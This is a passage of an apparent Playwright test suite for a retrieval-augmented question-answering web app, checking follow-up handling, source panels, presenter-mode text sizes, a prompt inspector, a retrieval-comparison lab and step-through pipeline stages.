    assert "faiss-hnsw-index.md" in top_source, f"the follow-up should be answered from the HNSW document: {top_source}"
    assert page.locator(QUESTION_BOX).input_value() == "", "the question box is emptied for the next question"


def test_a_follow_up_s_answer_goes_on_from_the_answer_before_it_rather_than_repeating_it(open_page):
    page = open_page()
    ask(page, "What is prompt injection?")
    wait_for_turns(page, 1)
    ask(page, "How do I protect against it?")
    wait_for_turns(page, 2)
    first, second = answers(page)
    assert "defences are layered" in second, f"the follow-up should get to the defences: {first!r} then {second!r}"


def test_choosing_an_earlier_answer_shows_its_sources_again(open_page):
    page = open_page()
    ask(page, HNSW_QUESTION)
    wait_for_turns(page, 1)
    ask(page, "How is reciprocal rank fusion computed?")
    wait_for_turns(page, 2)
    heading = f"{SOURCES} h2"
    page.wait_for_function(f"document.querySelector({heading!r})?.textContent.includes('reciprocal rank fusion')")

    page.locator(ANSWERS).first.click()

    page.wait_for_function(f"document.querySelector({heading!r}).textContent.includes({HNSW_QUESTION!r})")
    assert "faiss-hnsw-index.md" in page.locator(f"{SOURCES} details").first.inner_text()
    assert page.locator(f"{SCORES} .row").count() == 5 and page.locator(f"{TIMINGS} .row").count() > 0
    page.locator(ANSWERS).last.click()
    page.wait_for_function(f"document.querySelector({heading!r}).textContent.includes('reciprocal rank fusion')")
    assert "hybrid-search-rrf.md" in page.locator(f"{SOURCES} details").first.inner_text()
    assert page.locator(f"{SOURCES} mark").count() > 0, "the sentences the answer quoted are marked, as drawn"


def test_a_reply_that_searched_nothing_leaves_the_latest_answer_s_sources_beside_it(open_page):
    page = open_page()
    ask(page, HNSW_QUESTION)
    wait_for_turns(page, 1)
    heading = f"{SOURCES} h2"
    page.wait_for_function(f"document.querySelector({heading!r})?.textContent.includes({HNSW_QUESTION!r})")

    ask(page, "Where did you get that?")
    wait_for_turns(page, 2)
    wait_for_ask(page)

    assert "choose an answer to see its own" in page.locator(ANSWERS).last.inner_text()
    beside = page.locator(SOURCES).inner_text()  # drawn whether it holds sources or not
    assert HNSW_QUESTION in beside and "faiss-hnsw-index.md" in beside, beside


def test_clear_empties_the_conversation_and_a_new_one_starts_clean(open_page):
    page = open_page()
    ask(page, HNSW_QUESTION)
    wait_for_turns(page, 1)
    assert page.locator(f"{SOURCES} details").count() == 5

    page.locator(CLEAR).click()

    page.wait_for_function(f"document.querySelectorAll('{CHAT} .message-row').length === 0")
    drawn = f"{SOURCES} details, {SCORES} .row, {TIMINGS} .row"
    page.wait_for_function(f"document.querySelectorAll({drawn!r}).length === 0")  # the sources and charts go
    ask(page, FOLLOW_UP)
    wait_for_turns(page, 1)
    assert "Searching knowledge base…" in thought_log(page), "after Clear, nothing refers back to the old conversation"


def test_retry_asks_the_last_question_again_in_place_of_its_answer(open_page):
    page = open_page()
    ask(page, HNSW_QUESTION)
    wait_for_turns(page, 1)
    ask(page, FOLLOW_UP)
    wait_for_turns(page, 2)
    first_log = thought_log(page)

    page.locator(RETRY).click()

    page.wait_for_function(f"!!{last_js(THOUGHT_TITLES)}.querySelector('.loading-spinner')")  # asked again
    wait_for_turns(page, 2)
    assert [text.strip() for text in page.locator(USER_MESSAGES).all_inner_texts()] == [HNSW_QUESTION, FOLLOW_UP]
    assert len(answers(page)) == 2
    # The spinner above said it was asked again; its log (times aside, which may well repeat) reads the same
    # history: the follow-up searched with the topic of the question before it.
    assert searched_for(thought_log(page)) == searched_for(first_log), "the retried answer reads the same history"
    assert "HNSW" in searched_for(first_log)


def test_two_browser_tabs_do_not_share_a_conversation(open_page):
    first, second = open_page(), open_page()
    ask(first, HNSW_QUESTION)
    wait_for_turns(first, 1)

    ask(second, FOLLOW_UP)
    wait_for_turns(second, 1)

    assert "Searching knowledge base…" in thought_log(second), "the other tab's question is not this tab's history"
    assert second.locator(USER_MESSAGES).all_inner_texts() == [FOLLOW_UP]
    assert first.locator(USER_MESSAGES).all_inner_texts() == [HNSW_QUESTION]


PRESENTER_MIN_PX = 20
# The visible texts under `roots` set smaller than `min` pixels, as "size: text".
SMALL_TEXTS_JS = """([roots, min]) => {
    const small = [];
    for (const root of document.querySelectorAll(roots)) {
        const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
        for (let node = walker.nextNode(); node; node = walker.nextNode()) {
            const element = node.parentElement;
            if (!node.textContent.trim() || !element.checkVisibility()) continue;
            const size = parseFloat(getComputedStyle(element).fontSize);
            if (size < min) small.push(`${size}px: ${node.textContent.trim().slice(0, 50)}`);
        }
    }
    return small;
}"""
# The visible elements under `roots` whose text is cut off: wider than the box that clips them.
CUT_TEXTS_JS = """(roots) => [...document.querySelectorAll(roots)].flatMap(root => [...root.querySelectorAll('*')])
    .filter(e => e.checkVisibility() && e.innerText?.trim() && ['hidden', 'clip'].includes(getComputedStyle(e).overflowX)
        && e.scrollWidth > e.clientWidth + 1)
    .map(e => e.innerText.trim().slice(0, 50))"""
ON_SCREEN_JS = """(element) => { const r = element.getBoundingClientRect();
    return r.height > 0 && r.top >= 0 && r.bottom <= innerHeight && r.left >= 0 && r.right <= innerWidth; }"""


def test_presenter_mode_makes_every_text_the_room_reads_large_at_1024_by_768(open_page, artifacts_dir):
    page = open_page(1024, 768, query="?presenter")
    page.wait_for_function("document.documentElement.classList.contains('presenter')")
    assert page.locator(PRESENTER_BOX).is_checked(), "the address's ?presenter should tick the switch"
    set_pacing(page, 6)

    ask(page, HNSW_QUESTION)
    page.wait_for_function(f"({ANSWER_JS}).split(/\\s+/).length >= 12")
    page.evaluate("window.scrollTo(0, 0)")
    assert page.locator(STREAMING_CURSOR).count() == 1, "the check should run mid-answer"
    page.screenshot(path=artifacts_dir / "app-presenter-mid-answer.png")
    for part, selector in (("status log", OPEN_THOUGHT_LINES), ("answer", ANSWERS), ("question", USER_MESSAGES)):
        assert page.locator(selector).last.evaluate(ON_SCREEN_JS), f"the {part} should be on screen without scrolling"
    assert page.evaluate(SMALL_TEXTS_JS, [CHAT, PRESENTER_MIN_PX]) == [], "texts in the conversation"
    assert serious_violations(page) == [], "presenter mode, mid-answer"

    wait_for_turns(page, 1)
    page.locator(f"{SOURCES} summary").first.click()
    audience = f"{CHAT}, {LATEST_ANSWER}, {WARM_UP}"
    assert page.evaluate(SMALL_TEXTS_JS, [audience, PRESENTER_MIN_PX]) == [], "texts of the answer, sources and charts"
    assert page.evaluate(CUT_TEXTS_JS, audience) == [], "no text should be cut off"
    assert page.locator(LATEST_ANSWER).evaluate("e => e.scrollHeight <= e.clientHeight"), (
        "sources and charts shown whole"
    )
    assert page.evaluate("document.documentElement.scrollWidth") <= 1024, "the page should not scroll sideways"
    page.screenshot(path=artifacts_dir / "app-presenter-done.png", full_page=True)

    page.locator(PRESENTER_BOX).uncheck()
    page.wait_for_function("!document.documentElement.classList.contains('presenter')")
    assert "presenter" not in page.evaluate("location.search"), "the address should drop ?presenter"
    assert page.evaluate(SMALL_TEXTS_JS, [LATEST_ANSWER, PRESENTER_MIN_PX]), "the usual page has smaller text"
    page.locator(PRESENTER_BOX).check()
    page.wait_for_function("location.search === '?presenter=1'")  # so the teacher can bookmark it


# Each kind of prompt part shown, with the background colours its parts are drawn in.
PART_COLOURS_JS = """(parts) => {
    const colours = {};
    for (const part of document.querySelectorAll(parts)) {
        const kind = [...part.classList].find(name => name.startsWith('part-')).slice(5);
        (colours[kind] ??= new Set()).add(getComputedStyle(part).backgroundColor);
    }
    return Object.fromEntries(Object.entries(colours).map(([kind, set]) => [kind, [...set]]));
}"""


def test_the_prompt_inspector_shows_the_prompt_of_a_follow_up_part_by_part(open_page):
    page = open_page()
    ask(page, HNSW_QUESTION)
    wait_for_turns(page, 1)

    page.get_by_role("tab", name="Prompt inspector").click()
    page.locator(INSPECT_QUESTION_BOX).fill(FOLLOW_UP)
    page.locator(INSPECT).click()
    page.locator(PROMPT_PARTS).first.wait_for()

    shown = page.locator(PROMPT).inner_text()
    assert "What a language model would receive" in shown and "All 5 passages fit." in shown
    assert f"(asked: “{FOLLOW_UP}”)" in shown, "the rewritten follow-up should be named"
    question = page.locator(f"{PROMPT} .part-question").inner_text()
    assert "HNSW" in question and question != FOLLOW_UP, "the prompt holds the question as searched"
    assert page.locator(f"{PROMPT} .part-history").inner_text() == f"- {HNSW_QUESTION}", "and the earlier question"
    said = page.locator(f"{PROMPT} .part-said").inner_text()
    assert said.startswith("- ") and "HNSW" in said and "[1]" not in said, "and the earlier answer, without its marks"
    colours = page.evaluate(PART_COLOURS_JS, PROMPT_PARTS)
    kinds = ("rules", "passage", "reminder", "history", "said", "question")
    assert all(len(colours[kind]) == 1 for kind in kinds), colours
    assert len({colours[kind][0] for kind in kinds}) == len(kinds), f"each kind should have its own colour: {colours}"
    labels = page.locator(f"{PROMPT} .part-passage").evaluate_all(
        "parts => parts.map(part => getComputedStyle(part, '::before').content)"
    )
    assert [label.split(" · ")[0] for label in labels] == [f'"passage [{n}]' for n in range(1, 6)], labels
    assert serious_violations(page) == [], "the prompt inspector"


def test_the_retrieval_lab_ranks_an_upload_three_ways_and_links_each_passage_across_columns(open_page, tmp_path):
    page = open_page()
    upload_zorblax(page, tmp_path)

    page.get_by_role("tab", name="Retrieval lab").click()
    page.locator(LAB_QUESTION_BOX).fill(ZORBLAX_QUESTION)
    page.locator(COMPARE_RETRIEVERS).click()
    page.locator(LAB_COLUMNS).first.wait_for()

    columns = page.locator(LAB_COLUMNS)
    assert [columns.nth(n).locator("h3").inner_text().split()[0].lower() for n in range(3)] == [
        "dense",
        "lexical",
        "hybrid",
    ]
    for n in range(3):
        rows = columns.nth(n).locator("li")
        assert rows.count() == 10, "each retriever shows its top 10"
        assert "Zorblax" in rows.first.inner_text(), "the upload should top every ranking"
        assert "zorblax constant is 42" in columns.nth(n).locator(".lab-answer").inner_text()
    tags = page.locator(f"{LAB} li").evaluate_all(
        "rows => rows.map(row => [row.dataset.passage, getComputedStyle(row.querySelector('.tag')).backgroundColor])"
    )
    colour_of: dict[str, str] = {}
    for letter, colour in tags:
        assert colour_of.setdefault(letter, colour) == colour, f"passage {letter} should keep its colour"
    assert len(colour_of) < len(tags), "some passages should be ranked by more than one retriever"
    assert serious_violations(page) == [], "the retrieval lab"


SEARCH_STAGES = ["Embed the question", "Dense search", "Lexical search", "Fusion", "Rerank"]


def step_through(page) -> None:
    """Turn on stepping through the pipeline in the settings."""
    page.locator("button.label-wrap", has_text="Settings").click()
    page.locator(STEP_THROUGH_BOX).check()
    page.locator(NEXT_STAGE).wait_for()


def paused_stages(page, titles: list[str]) -> Iterator:
    """Each title of `titles` with the stage the answer pauses after, checked to be so titled; Next
    stage is pressed once the caller has looked at it, after the last stage too."""
    for shown, title in enumerate(titles, 1):
        page.wait_for_function(
            f"document.querySelectorAll('{STAGES} details').length === {shown} && "
            f"document.querySelector('{STAGES} .paused') !== null"
        )
        newest = page.locator(f"{STAGES} details").last
        assert title in newest.locator("summary").inner_text(), newest.locator("summary").inner_text()
        yield title, newest
        page.locator(NEXT_STAGE).click()


def test_stepping_through_pauses_after_each_stage_with_its_data_until_next_stage(open_page):
    page = open_page()
    step_through(page)

    assert page.locator(NEXT_STAGE).is_disabled(), "nothing is paused yet"
    ask(page, HNSW_QUESTION)
    titles = [*SEARCH_STAGES, "Choose the sentences"]
    for shown, (title, newest) in enumerate(paused_stages(page, titles), 1):
        assert newest.get_attribute("open") is not None
        assert newest.locator("tbody tr").count() >= 1, f"the {title} stage should show its data"
        assert page.locator(ANSWERS).count() == 0, "nothing is answered while a stage is shown"
        found = page.locator(f"{SOURCES} .source").count()
        assert found == (0 if title in SEARCH_STAGES else 5), "the passages found show after the search's stages"
        wait_for_thought(page, f"Paused after: {title}")
        if shown == 1:
            assert serious_violations(page) == [], "paused after a stage"

    wait_for_turns(page, 1)
    assert re.search(r"\[1\]", answer_text(page)), answer_text(page)
    assert page.locator(f"{STAGES} .paused").count() == 0
    assert page.locator(NEXT_STAGE).is_disabled(), "nothing is paused any more"
    assert page.locator(f"{STAGES} details[open]").count() == 1, "only the newest stage stays open"


def test_turning_stepping_through_off_lets_a_paused_answer_go_on(open_page):
    page = open_page()
    step_through(page)
    ask(page, HNSW_QUESTION)
    page.wait_for_function(f"document.querySelector('{STAGES} .paused') !== null")

    page.locator(STEP_THROUGH_BOX).uncheck()

    wait_for_turns(page, 1)
    assert "[1]" in answer_text(page) and "Stopped" not in thought_title(page)
    wait_for_ask(page)


def test_stepping_through_a_follow_up_shows_its_own_words_weighing_the_passages(open_page):
    page = open_page()
    ask(page, HNSW_QUESTION)
    wait_for_turns(page, 1)
    step_through(page)

    ask(page, FOLLOW_UP)
    titles = [*SEARCH_STAGES, "Weigh by the follow-up's own words", "Choose the sentences"]
    for title, newest in paused_stages(page, titles):
        if title.startswith("Weigh"):
            assert FOLLOW_UP in newest.inner_text(), "the stage names the follow-up as asked"
            headers = newest.locator("thead th").all_inner_texts()
            assert "document as asked" in headers and "weighed" in headers, headers
            assert newest.locator("tbody tr").count() >= 1, "each passage with its two scores"

    wait_for_turns(page, 2)
    assert "faiss-hnsw-index.md" in page.locator(f"{SOURCES} details").first.inner_text()
